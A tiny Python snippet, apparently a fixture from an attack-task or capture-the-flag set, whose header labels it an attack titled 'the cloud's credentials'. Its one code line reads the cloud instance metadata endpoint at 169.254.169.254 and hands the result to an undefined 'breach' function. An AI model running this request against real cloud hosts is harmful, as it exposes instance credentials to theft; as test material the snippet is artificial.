# /// attack
# title = "the cloud's credentials"
# ends = "finished"
# ///
import urllib.request
breach(urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1).read())
